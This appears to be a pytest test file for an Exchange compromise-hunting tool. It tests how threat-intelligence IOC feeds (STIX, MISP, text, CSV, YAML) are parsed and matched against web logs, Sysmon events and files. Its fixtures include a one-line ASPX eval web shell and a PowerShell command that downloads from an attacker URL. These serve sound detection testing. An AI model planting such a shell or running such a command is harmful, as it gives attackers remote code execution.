"""IOC feeds: STIX 2.1, MISP, plain lists and the built-in pack, read strictly and run through scan()."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
import stix2

from exhunt.errors import RuleError
from exhunt.iocs import builtin_iocs, builtin_pack_path, ioc_rules, load_iocs
from exhunt.iocs.feeds import classify
from exhunt.rules.model import SEVERITIES
from exhunt.scan import ScanOptions, ScanResult, scan
from tests.conftest import INSTALL, httpproxy_log, iis_log, write

W3 = "EXCH01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
HP = f"{INSTALL}/Logging/HttpProxy/Ecp/HttpProxy_2021030301-1.LOG"
SHELL = "EXCH01/C/inetpub/wwwroot/aspnet_client/system_web/zz8w.aspx"
SHELL_BODY = b'<%@ Page Language="Jscript"%><%eval(Request.Item["t"],"unsafe");%>'
SHELL_SHA = hashlib.sha256(SHELL_BODY).hexdigest()
TOOL_BODY = b"MZ not really a tool"
TOOL_SHA = hashlib.sha256(TOOL_BODY).hexdigest()
SHA_A = "a" * 64


def pairs(iocs) -> set[tuple[str, str]]:
    return {(i.type, i.value) for i in iocs}


def run(root: Path, feeds: list[Path]) -> ScanResult:
    return scan(root, ScanOptions(rules=ioc_rules(load_iocs(feeds)), all_evidence=True))


def by_rule(result: ScanResult, rule_id: str) -> list:
    return [f for f in result.findings if f.rule.id == rule_id]


# ------------------------------------------------------------------------------------------- STIX


def stix_bundle(tmp_path: Path) -> Path:
    volexity = stix2.Identity(name="Volexity", identity_class="organization")
    common = {"pattern_type": "stix", "valid_from": "2021-03-02T00:00:00Z", "created_by_ref": volexity.id}
    infra = stix2.Indicator(
        name="Marauder infrastructure",
        pattern="[ipv4-addr:value = '103.77.192.219' OR ipv4-addr:value = '5.254.43.18'] OR "
        "[ipv6-addr:value = '2001:DB8::1'] OR [domain-name:value = 'Evil.Example.com'] OR "
        "[url:value = 'http://206.188.196.77:8080/themes.aspx']",
        **common,
    )
    shell = stix2.Indicator(
        name="SIMPLESEESHARP web shell",
        pattern=f"[file:hashes.'SHA-256' = '{SHELL_SHA}' OR file:name = 'zz8w.aspx']",
        **common,
    )
    named = stix2.Indicator(pattern=f"[file:name = 'ignored.aspx' AND file:hashes.MD5 = '{'b' * 32}']", **common)
    negated = stix2.Indicator(pattern="[ipv4-addr:value != '10.0.0.1']", **common)
    revoked = stix2.Indicator(pattern="[ipv4-addr:value = '10.9.9.9']", revoked=True, **common)
    tool = stix2.Tool(name="Dll.dll loader")
    dll = stix2.Indicator(pattern=f"[file:hashes.'SHA-256' = '{TOOL_SHA}']", **common)
    link = stix2.Relationship(dll, "indicates", tool)
    observable = stix2.IPv4Address(value="91.192.103.43")
    file_sco = stix2.File(name="Dll.dll", hashes={"SHA-256": SHA_A})
    bundle = stix2.Bundle(volexity, infra, shell, named, negated, revoked, tool, dll, link, observable, file_sco)
    path = tmp_path / "marauder.json"
    path.write_text(bundle.serialize(pretty=True))
    return path


def test_stix_bundle_indicators_and_observables(tmp_path: Path):
    iocs = load_iocs([stix_bundle(tmp_path)])
    assert pairs(iocs) == {
        ("ip", "103.77.192.219"), ("ip", "5.254.43.18"), ("ip", "2001:db8::1"), ("domain", "evil.example.com"),
        ("url", "http://206.188.196.77:8080/themes.aspx"), ("sha256", SHELL_SHA), ("filename", "zz8w.aspx"),
        ("md5", "b" * 32), ("sha256", TOOL_SHA), ("ip", "91.192.103.43"), ("sha256", SHA_A),
    }  # fmt: skip
    by_value = {i.value: i for i in iocs}
    assert by_value["103.77.192.219"].source == "Volexity"
    assert by_value["103.77.192.219"].label == "Marauder infrastructure"
    assert by_value[SHELL_SHA].role == "webshell"
    assert by_value[TOOL_SHA].role == "tool" and "Dll.dll loader" in by_value[TOOL_SHA].label
    assert by_value[SHA_A].role == "tool"  # the observable's name, Dll.dll, says so
    assert "ignored.aspx" not in by_value  # AND-ed with a hash: it labels the hash, not a name on its own
    (feed,) = iocs.feeds
    assert (feed.name, feed.format) == ("marauder", "stix")
    assert feed.skipped == 2  # the != comparison and the revoked indicator
    assert any("MD5/SHA-1" in n for n in feed.notes)


def test_stix_20_bundle_and_file_in_folder(tmp_path: Path):
    doc = {
        "type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "spec_version": "2.0",
        "objects": [
            {"type": "indicator", "id": "indicator--a740531e-63ff-4e49-a9e1-a0a3eed0e3e7",
             "created": "2021-03-02T00:00:00.000Z", "modified": "2021-03-02T00:00:00.000Z",
             "labels": ["malicious-activity"], "valid_from": "2021-03-02T00:00:00Z",
             "pattern": "[file:name = 'x.aspx' AND file:parent_directory_ref.path = 'C:\\\\inetpub\\\\wwwroot']"},
            {"type": "x-vendor-note", "id": "x-vendor-note--a740531e-63ff-4e49-a9e1-a0a3eed0e3e7", "text": "custom"},
        ],
    }  # fmt: skip
    path = tmp_path / "old.json"
    path.write_text(json.dumps(doc))
    (ioc,) = load_iocs([path])
    assert (ioc.type, ioc.value, ioc.label) == ("filepath", "C:\\inetpub\\wwwroot\\x.aspx", "malicious-activity")


# ------------------------------------------------------------------------------------------- MISP


def misp_event(tmp_path: Path) -> Path:
    event = {
        "Event": {
            "info": "ProxyNotShell intrusion",
            "Orgc": {"name": "CIRCL"},
            "Attribute": [
                {"type": "ip-src", "value": "125.212.220.48", "to_ids": True, "comment": "GTSC attacker"},
                {"type": "ip-dst|port", "value": "137.184.67.33|443", "to_ids": "1"},
                {"type": "ip-dst", "value": "8.8.8.8", "to_ids": False, "comment": "resolver, context"},
                {"type": "domain|ip", "value": "c2.example.net|47.242.39.92", "to_ids": True},
                {"type": "hostname", "value": "files.example.org", "to_ids": True},
                {"type": "url", "value": "hxxp://206.188.196.77:8080/themes.aspx", "to_ids": True},
                {"type": "filename|sha256", "value": f"errorEE.aspx|{SHELL_SHA.upper()}", "to_ids": True},
                {"type": "md5", "value": "c" * 32},
                {"type": "filename", "value": "pxh4HG1v.ashx", "to_ids": True},
                {"type": "email-src", "value": "x@example.com", "to_ids": True},
                {"type": "ip-src", "value": "10.0.0.9", "to_ids": True, "deleted": True},
            ],
            "Object": [
                {
                    "name": "file",
                    "comment": "dropped DLL",
                    "Attribute": [
                        {"type": "filename", "value": "Dll.dll", "to_ids": True},
                        {"type": "sha256", "value": TOOL_SHA, "to_ids": True},
                    ],
                }
            ],
        }
    }
    path = tmp_path / "misp-event.json"
    path.write_text(json.dumps(event))
    return path


def test_misp_event_attributes_objects_and_to_ids(tmp_path: Path):
    iocs = load_iocs([misp_event(tmp_path)])
    assert pairs(iocs) == {
        ("ip", "125.212.220.48"), ("ip", "137.184.67.33"), ("domain", "c2.example.net"), ("ip", "47.242.39.92"),
        ("domain", "files.example.org"), ("url", "http://206.188.196.77:8080/themes.aspx"), ("sha256", SHELL_SHA),
        ("md5", "c" * 32), ("filename", "pxh4HG1v.ashx"), ("sha256", TOOL_SHA),
    }  # fmt: skip
    by_value = {i.value: i for i in iocs}
    assert by_value["125.212.220.48"].source == "CIRCL" and by_value["125.212.220.48"].label == "GTSC attacker"
    assert by_value[SHELL_SHA].role == "webshell" and by_value[SHELL_SHA].label.startswith("errorEE.aspx")
    assert by_value[TOOL_SHA].role == "tool" and by_value[TOOL_SHA].label.startswith("Dll.dll")
    (feed,) = iocs.feeds
    assert feed.format == "misp"
    assert "1 skipped: MISP attribute with to_ids false" in feed.notes
    assert "1 skipped: MISP attribute type 'email-src'" in feed.notes


# ------------------------------------------------------------------------------------- text / CSV


PLAIN = """\
# HAFNIUM infrastructure (Volexity)
103.77.192.219
[2001:db8::2]:443
5.254.43[.]18   # defanged on purpose

# ProxyNotShell web shells (GTSC)
C838E77AFE750D713E67FFEB4EC1B82EE9066CBE21F11181FD34429F70831EC1
C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx
pxh4HG1v.ashx  # owa\\auth
google.log
{md5}
{sha1}
hxxp://206.188.196.77:8080/themes[.]aspx
evil.example.com seen in DNS
this line is prose, not an indicator
""".format(md5="d" * 32, sha1="e" * 40)


def test_plain_list_comments_and_mixed_types(tmp_path: Path):
    path = tmp_path / "hunt list.txt"
    path.write_text(PLAIN)
    iocs = load_iocs([path])
    assert pairs(iocs) == {
        ("ip", "103.77.192.219"), ("ip", "2001:db8::2"), ("ip", "5.254.43.18"),
        ("sha256", "c838e77afe750d713e67ffeb4ec1b82ee9066cbe21f11181fd34429f70831ec1"),
        ("filepath", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx"),
        ("filename", "pxh4HG1v.ashx"), ("filename", "google.log"), ("md5", "d" * 32), ("sha1", "e" * 40),
        ("url", "http://206.188.196.77:8080/themes.aspx"), ("domain", "evil.example.com"),
    }  # fmt: skip
    labels = {i.value: i.label for i in iocs}
    assert labels["103.77.192.219"] == "HAFNIUM infrastructure (Volexity)"
    assert labels["5.254.43.18"] == "defanged on purpose"
    assert labels["pxh4HG1v.ashx"] == "owa\\auth"
    assert labels["evil.example.com"] == "seen in DNS; ProxyNotShell web shells (GTSC)"
    (feed,) = iocs.feeds
    assert (feed.name, feed.format, feed.skipped) == ("hunt-list", "text", 1)
    v6 = tmp_path / "v6.txt"
    v6.write_text("[2001:db8::1]\n")  # starts like JSON, is not
    assert pairs(load_iocs([v6])) == {("ip", "2001:db8::1")}


def test_csv_with_header_and_without(tmp_path: Path):
    with_header = tmp_path / "mstic.csv"
    with_header.write_text(
        "# exported 2021-03-16\nIndicatorValue,IndicatorType,Description,Source\n"
        f"{SHELL_SHA},FileSha256,web shell,MSTIC\n103.77.192.219,IPv4,,Volexity\n"
        "not-an-ip,IPv4,broken row,x\n"
    )
    iocs = load_iocs([with_header])
    assert pairs(iocs) == {("sha256", SHELL_SHA), ("ip", "103.77.192.219")}
    assert {i.value: (i.source, i.role) for i in iocs}[SHELL_SHA] == ("MSTIC", "webshell")
    assert iocs.feeds[0].skipped == 1
    as_json = tmp_path / "list.json"
    as_json.write_text('["103.77.192.219", "xx.aspx", "no"]')
    assert pairs(load_iocs([as_json])) == {("ip", "103.77.192.219"), ("filename", "xx.aspx")}
    bare = tmp_path / "bare.csv"
    bare.write_text("2021-03-03,130.255.189.21,HelseCERT\n2021-03-06,xx.aspx,aspnet_client\n")
    assert pairs(load_iocs([bare])) == {("ip", "130.255.189.21"), ("filename", "xx.aspx")}


def test_type_detection_edges():
    assert classify("1.2.3.4:8080") == ("ip", "1.2.3.4")
    assert classify("10.0.0.0/8") is None  # ranges are not supported
    assert classify("a.zip") == ("filename", "a.zip")  # a known extension wins over the .zip TLD
    assert classify("Evil.COM.") == ("domain", "evil.com")
    assert classify("/owa/auth/x.js") == ("url", "/owa/auth/x.js")
    assert classify("readme") is None
    assert classify("notes.docx") == ("filename", "notes.docx")
    assert classify("see C:\\x\\y.exe") is None  # prose around a path is not a path
    assert classify("weird.qqq") == ("domain", "weird.qqq")  # unknown extension: syntax says domain
    assert classify("weird.qqq", "filename") == ("filename", "weird.qqq")  # a stated type is trusted
    assert classify("1.2.3.4", "sha256") is None


# -------------------------------------------------------------------------------------- malformed


def _bad_stix_pattern() -> str:
    doc = json.loads(
        stix2.Bundle(stix2.Indicator(pattern="[ipv4-addr:value = '1.2.3.4']", pattern_type="stix")).serialize()
    )
    doc["objects"][0]["pattern"] = "[ipv4-addr:value = ]"
    return json.dumps(doc)


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("bad.json", '{"Event": {"Attribute": [', "invalid JSON"),
        ("bad-stix.json", _bad_stix_pattern(), "STIX bundle rejected by stix2"),
        ("empty-stix.json", '{"type": "bundle", "id": "bundle--0b6c2ab1-0a4f-4b86-9e0a-2c4c1a7e6f11"}', "no objects"),
        ("bad-misp.json", '{"Event": {"info": "x", "Attribute": {"type": "ip-src"}}}', "'Attribute' must be a list"),
        ("other.json", '{"hello": "world"}', "neither a STIX 2.1 bundle nor a MISP event"),
        (
            "all-context.json",
            '{"Event": {"Attribute": [{"type": "ip-src", "value": "1.2.3.4", "to_ids": false}]}}',
            "to_ids false",
        ),
        ("prose.txt", "# just notes\nnothing to see here\n", "no indicators recognised"),
        ("empty.csv", "value,comment\n", "no indicators recognised"),
        ("binary.txt", b"\x00\x01\x02", "binary content"),
        ("latin1.txt", "caf\xe9 1.2.3.4".encode("latin-1"), "not UTF-8"),
        ("pack.yaml", "indicators: [{values: [1.2.3.4]}]", "'source' is required"),
        ("pack2.yaml", "indicators:\n  - {source: x, type: ip, values: [not-an-ip]}\n", "is not a valid ip"),
        ("pack3.yaml", "indicators: [unclosed\n", "invalid YAML"),
    ],
)
def test_malformed_feeds_raise_rule_error_naming_the_file(
    tmp_path: Path, name: str, content: str | bytes, problem: str
):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(RuleError) as exc:
        load_iocs([path])
    assert exc.value.path == str(path)
    assert problem in exc.value.problem
    assert "\n" not in str(exc.value)


def test_unreadable_and_missing_files(tmp_path: Path):
    missing = tmp_path / "nope.txt"
    with pytest.raises(RuleError, match="cannot read") as exc:
        load_iocs([missing])
    assert exc.value.path == str(missing)
    with pytest.raises(RuleError, match="folder holds no IOC files"):
        load_iocs([tmp_path])


# ------------------------------------------------------------------------------------------ rules


def test_rules_are_compact_valid_data_and_ids_unique(tmp_path: Path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "feed.txt").write_text("1.2.3.4\n")
    (tmp_path / "b" / "feed.txt").write_text("5.6.7.8\n")
    iocs = load_iocs([tmp_path / "a" / "feed.txt", tmp_path / "b" / "feed.txt", misp_event(tmp_path)])
    assert [f.name for f in iocs.feeds] == ["feed", "feed-2", "misp-event"]
    rules = ioc_rules(iocs)
    ids = [r.id for r in rules]
    assert len(ids) == len(set(ids))
    assert {"ioc:feed:ip:web", "ioc:feed-2:ip:web", "ioc:misp-event:hash:files"} <= set(ids)
    for r in rules:
        assert r.to_dict()["where"] == r.where and str(tmp_path) in r.description
        if r.id.split(":")[2] in ("ip", "url", "domain"):
            assert SEVERITIES.index(r.severity) <= SEVERITIES.index("medium") and r.kind == "indicator"
    hashes = next(r for r in rules if r.id == "ioc:misp-event:hash:files")
    assert (hashes.severity, hashes.kind, hashes.where) == (
        "critical",
        "webshell",
        {"field": "sha256", "equals": [SHELL_SHA]},
    )
    tool = next(r for r in rules if r.id == "ioc:misp-event:tool-hash:files")
    assert (tool.severity, tool.kind) == ("high", "indicator")
    assert not any(r.id == "ioc:misp-event:hash:files" and "c" * 32 in str(r.where) for r in rules)  # md5: events only
    assert "MD5=" + "C" * 32 in str(next(r for r in rules if r.id == "ioc:misp-event:hash:events").where)


# ------------------------------------------------------------------------------------- end to end


def test_ioc_ip_in_iis_and_httpproxy_is_context_not_compromise(collection: Path, tmp_path: Path):
    feed = tmp_path / "ips.txt"
    feed.write_text("# Volexity\n103.77.192.219\n" + "".join(f"198.51.100.{n}\n" for n in range(20)))
    write(collection, W3, iis_log([
        "2021-03-03 01:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 103.77.192.219 Mozilla/5.0 - 200 0 0 9",
        "2021-03-03 01:00:01 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 10.1.1.1 Mozilla/5.0 - 200 0 0 9",
    ]))  # fmt: skip
    write(collection, HP, httpproxy_log([{"DateTime": "2021-03-03T01:00:00.000Z", "ClientIpAddress": "198.51.100.7"}]))
    result = run(collection, [feed])
    iis, hp = sorted(by_rule(result, "ioc:ips:ip:web"), key=lambda f: f.group["client_ip"])
    assert (iis.group, iis.count, iis.severity) == ({"client_ip": "103.77.192.219"}, 1, "medium")
    assert [(e.path, e.line) for e in iis.evidence] == [(W3, 5)]
    assert hp.group == {"client_ip": "198.51.100.7"} and [e.path for e in hp.evidence] == [HP]
    assert all(SEVERITIES.index(f.severity) <= SEVERITIES.index("medium") for f in result.findings)
    assert result.verdict == "SUSPICIOUS"


def test_one_request_from_a_listed_ip_in_iis_and_httpproxy_is_one_hit(collection: Path, tmp_path: Path):
    """The IP rule runs on every web log at once: the front end's request id ties the IIS line and
    the HttpProxy row of one request, so it is one finding, counted once, with evidence from each."""
    feed = tmp_path / "ips.txt"
    feed.write_text("103.77.192.219\n")
    req = "2f7d0d61-2d7b-4f44-9f5b-0c3c1b9a7e11"
    write(collection, W3, iis_log([
        f"2021-03-03 01:00:00 10.0.0.5 GET /owa/auth/logon.aspx &cafeReqId={req}; 443 - 103.77.192.219 Mozilla/5.0 - 200 0 0 9",
    ]))  # fmt: skip
    write(collection, HP, httpproxy_log([{"DateTime": "2021-03-03T01:00:00.000Z", "ClientIpAddress": "103.77.192.219",
                                          "RequestId": req, "UrlStem": "/owa/auth/logon.aspx", "HttpStatus": "200"}]))  # fmt: skip
    (hit,) = by_rule(run(collection, [feed]), "ioc:ips:ip:web")
    assert hit.count == 1 and sorted(e.path for e in hit.evidence) == sorted([W3, HP])


@pytest.mark.parametrize("logs", ["both", "httpproxy only"])
def test_url_and_domain_indicators_run_on_every_web_log_as_one_rule(collection: Path, tmp_path: Path, logs: str):
    """A listed path or host seen by IIS and by HttpProxy for one request is one finding with evidence
    from each; with the IIS logs deleted, the HttpProxy row still gives it."""
    feed = tmp_path / "web.txt"
    feed.write_text("/owa/auth/x.js\nc2.example.net\n")
    req = "2f7d0d61-2d7b-4f44-9f5b-0c3c1b9a7e11"
    if logs == "both":
        write(collection, W3, iis_log([
            f"2021-03-03 01:00:00 10.0.0.5 GET /owa/auth/x.js &cafeReqId={req}; 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 9",
        ]))  # fmt: skip
    write(collection, HP, httpproxy_log([
        {"DateTime": "2021-03-03T01:00:00.000Z", "ClientIpAddress": "203.0.113.9", "RequestId": req,
         "UrlStem": "/owa/auth/x.js", "UrlHost": "mail.corp.example", "HttpStatus": "200"},
        {"DateTime": "2021-03-03T01:00:05.000Z", "ClientIpAddress": "203.0.113.10", "RequestId": "r2",
         "UrlStem": "/owa/", "UrlHost": "www.c2.example.net", "HttpStatus": "200"},
    ]))  # fmt: skip
    result = run(collection, [feed])
    assert not [f for f in result.findings if f.rule.source in ("iis", "httpproxy") and f.rule.id.startswith("ioc:")]
    (url,) = by_rule(result, "ioc:web:url:web")
    paths = [W3, HP] if logs == "both" else [HP]
    assert url.count == 1 and sorted(e.path for e in url.evidence) == sorted(paths)
    (domain,) = by_rule(result, "ioc:web:domain:web")
    assert domain.group == {"client_ip": "203.0.113.10"} and [(e.path, e.line) for e in domain.evidence] == [(HP, 8)]


def test_ioc_hashes_and_names_find_files(collection: Path, tmp_path: Path):
    write(collection, SHELL, SHELL_BODY)
    write(collection, "EXCH01/C/Users/Public/tool.bin", TOOL_BODY)
    write(collection, "EXCH01/C/inetpub/wwwroot/aspnet_client/pxh4HG1v.ashx", "<%@ WebHandler %>")
    write(collection, "EXCH01/C/inetpub/wwwroot/aspnet_client/clean.aspx", "<%@ Page %>")
    result = run(collection, [misp_event(tmp_path)])
    (shell,) = by_rule(result, "ioc:misp-event:hash:files")
    assert (shell.group, shell.severity, shell.rule.kind) == ({"path": SHELL}, "critical", "webshell")
    assert shell.evidence[0].record["sha256"] == SHELL_SHA
    (tool,) = by_rule(result, "ioc:misp-event:tool-hash:files")
    assert (tool.group, tool.severity) == ({"path": "EXCH01/C/Users/Public/tool.bin"}, "high")
    (named,) = by_rule(result, "ioc:misp-event:webshell-file:files")
    assert named.group == {"path": "EXCH01/C/inetpub/wwwroot/aspnet_client/pxh4HG1v.ashx"}
    assert named.severity == "high"
    assert result.verdict == "COMPROMISED"


def test_ioc_indicators_in_events(collection: Path, tmp_path: Path):
    feed = tmp_path / "feed.txt"
    feed.write_text(f"{SHELL_SHA}\n137.184.67.33\nc2.example.net\nhxxp://206.188.196.77:8080/themes.aspx\nxx.aspx\n")
    base = {"channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon"}
    events = [
        {
            **base,
            "event_id": 1,
            "event_data": {"Image": "C:\\Windows\\Temp\\x.exe", "Hashes": f"MD5=00,SHA256={SHELL_SHA.upper()}"},
        },
        {**base, "event_id": 3, "event_data": {"SourceIp": "10.0.0.5", "DestinationIp": "137.184.67.33"}},
        {**base, "event_id": 22, "event_data": {"QueryName": "www.c2.example.net"}},
        {**base, "event_id": 1, "event_data": {"CommandLine": "powershell iwr http://206.188.196.77:8080/themes.aspx"}},
        {**base, "event_id": 11, "event_data": {"TargetFilename": "C:\\inetpub\\wwwroot\\aspnet_client\\xx.aspx"}},
        {**base, "event_id": 11, "event_data": {"TargetFilename": "C:\\inetpub\\wwwroot\\aspnet_client\\xxx.aspx"}},
    ]
    lines = [json.dumps({"@timestamp": "2021-03-03T01:00:00.000Z", "message": "",
                         "winlog": {"record_id": n, "computer_name": "EXCH01", **e}}) for n, e in enumerate(events, 1)]  # fmt: skip
    write(collection, "EXCH01/EventLogs/sysmon.ndjson", "\n".join(lines) + "\n", crlf=False)
    result = run(collection, [feed])
    hit_lines = {f.rule.id: sorted(e.line for e in f.evidence) for f in result.findings}
    assert hit_lines == {
        "ioc:feed:hash:events": [1],
        "ioc:feed:ip:events": [2],
        "ioc:feed:domain:events": [3],
        "ioc:feed:url:events": [4],
        "ioc:feed:webshell-file:events": [5],
    }


def test_long_value_lists_compile_to_one_alternation_that_matches(collection: Path, tmp_path: Path):
    feed = tmp_path / "names.txt"
    folder = "C:\\inetpub\\wwwroot\\aspnet_client\\"
    feed.write_text("".join(f"{folder}shell{n}.aspx\n" for n in range(60)) + f"{folder}a+b (1).aspx\n")
    rules = {r.id: r for r in ioc_rules(load_iocs([feed]))}
    assert set(rules["ioc:names:webshell-file:files"].where["any"][0]) == {"field", "regex"}
    site = "EXCH01/C/inetpub/wwwroot/aspnet_client/"
    for name in ("a+b (1).aspx", "shell59.aspx", "shell590.aspx", "xshell5.aspx"):
        write(collection, site + name, "x")
    result = run(collection, [feed])
    found = sorted(f.group["path"] for f in by_rule(result, "ioc:names:webshell-file:files"))
    assert found == [site + "a+b (1).aspx", site + "shell59.aspx"]


# ------------------------------------------------------------------------------------ built-in pack


BUILTIN_COUNTS = {"ip": 37, "sha256": 31, "filepath": 75, "filename": 3, "url": 1}


def _values_in(where: object) -> int:
    """Number of listed values in a where tree (regex alternations count their branches)."""
    if isinstance(where, dict):
        if "field" in where:
            vals = [v for k, v in where.items() if k in ("equals", "contains", "endswith")]
            if "regex" in where:
                return where["regex"].count("|") + 1
            return sum(len(v) if isinstance(v, list) else 1 for v in vals)
        return sum(_values_in(v) for v in where.values())
    if isinstance(where, list):
        return sum(_values_in(v) for v in where)
    return 0


def test_builtin_pack_loads_with_sources_and_rules_match_its_counts():
    iocs = builtin_iocs()
    assert iocs.counts() == BUILTIN_COUNTS
    assert all(i.source and i.label for i in iocs)
    assert [f.name for f in iocs.feeds] == ["builtin"] and iocs.feeds[0].skipped == 0
    roles = {i.value: i.role for i in iocs if i.type == "sha256"}
    assert sum(r == "tool" for r in roles.values()) == 6  # the GTSC DLLs
    names = {i.value.rsplit("\\", 1)[-1].lower() for i in iocs if i.type in ("filename", "filepath")}
    assert not {"redirsuiteserviceproxy.aspx", "timeoutlogout.aspx"} & names  # legitimate files, hash only
    assert builtin_pack_path().name == "builtin.yaml"
    rules = {r.id: r for r in ioc_rules(iocs)}
    assert _values_in(rules["ioc:builtin:ip:web"].where) == 37
    assert _values_in(rules["ioc:builtin:ip:events"].where) == 3 * 37
    assert (
        _values_in(rules["ioc:builtin:hash:files"].where) + _values_in(rules["ioc:builtin:tool-hash:files"].where) == 31
    )
    assert _values_in(rules["ioc:builtin:tool-hash:files"].where) == 6
    files = _values_in(rules["ioc:builtin:webshell-file:files"].where) + _values_in(
        rules["ioc:builtin:file:files"].where
    )
    assert files == 3 + 2 * 75  # bare names once; paths as win_path and collection-path suffixes
    assert _values_in(rules["ioc:builtin:url:events"].where) == 1
    assert all(r.severity in ("medium",) for r in rules.values() if r.id.split(":")[2] in ("ip", "url"))


def test_builtin_pack_paths_match_only_in_their_folder(collection: Path):
    write(collection, f"{INSTALL}/FrontEnd/HttpProxy/owa/auth/default.aspx", "shell")
    write(collection, f"{INSTALL}/ClientAccess/Owa/default.aspx", "legit page")
    write(collection, "EXCH01/D/inetpub/wwwroot/aspnet_client/system_web/log.aspx", "shell")
    result = scan(collection, ScanOptions(rules=ioc_rules(builtin_iocs())))
    found = sorted(f.group["path"] for f in by_rule(result, "ioc:builtin:webshell-file:files"))
    assert found == [
        "EXCH01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/default.aspx",
        "EXCH01/D/inetpub/wwwroot/aspnet_client/system_web/log.aspx",
    ]


def test_ip_indicators_also_match_ews_and_rps_logs(tmp_path: Path):
    from exhunt.iocs import ioc_rules, load_iocs
    from exhunt.scan import ScanOptions, scan
    from tests.conftest import INSTALL, write

    feed = tmp_path / "ips.txt"
    feed.write_text("203.0.113.77\n")
    root = tmp_path / "c"
    head = "#Software: Microsoft Exchange Server\n#Version: 15.01.2106.002\n#Log-type: {}\n#Date: 2021-03-03T00:00:00.000Z\n"
    write(root, f"{INSTALL}/Logging/EWS/Ews_2021030301-1.LOG", head.format("EWS Logs")
          + "#Fields: DateTime,ClientIpAddress,SoapAction\n2021-03-03T01:00:00.000Z,203.0.113.77,GetItem\n")  # fmt: skip
    write(root, f"{INSTALL}/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2021030301-1.LOG", head.format("Rps Http Logs")
          + "#Fields: DateTime,ClientIpAddress,HttpStatus\n2021-03-03T01:00:00.000Z,203.0.113.77,200\n")  # fmt: skip
    result = scan(root, ScanOptions(rules=ioc_rules(load_iocs([feed])), all_evidence=True))
    sources = sorted(f.rule.source for f in result.findings)
    assert sources == ["ews", "rps_http"]
    assert all(f.severity == "medium" and f.evidence[0].line == 6 for f in result.findings)


def test_url_indicators_in_iis_stem_query_referer_and_across_the_question_mark(collection: Path, tmp_path: Path):
    feed = tmp_path / "urls.txt"
    feed.write_text("hxxp://206.188.196.77:8080/themes.aspx\n/owa/auth/x.js\n/ecp/y.js?cmd=run\n")
    row = "2021-03-03 01:00:0{n} 10.0.0.5 GET {stem} {query} 443 - 203.0.113.{n} Mozilla/5.0 {ref} 200 0 0 1"
    lines = [
        row.format(n=1, stem="/owa/", query="u=http://206.188.196.77:8080/themes.aspx", ref="-"),
        row.format(n=2, stem="/owa/", query="-", ref="http://206.188.196.77:8080/themes.aspx"),
        row.format(n=3, stem="/owa/auth/x.js", query="-", ref="-"),
        row.format(n=4, stem="/ecp/y.js", query="cmd=run", ref="-"),
        row.format(n=5, stem="/ecp/y.js", query="cmd=list", ref="-"),  # the path alone is not the indicator
        row.format(n=6, stem="/owa/auth/logon.aspx", query="x=/owa/auth/x.jsonp", ref="-"),  # contains, still a hit
        row.format(n=7, stem="/owa/", query="-", ref="-"),
    ]
    write(collection, "EXCH01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", iis_log(lines))
    result = run(collection, [feed])
    hits = sorted(e.line for f in by_rule(result, "ioc:urls:url:web") for e in f.evidence)
    assert hits == [5, 6, 7, 8, 10]
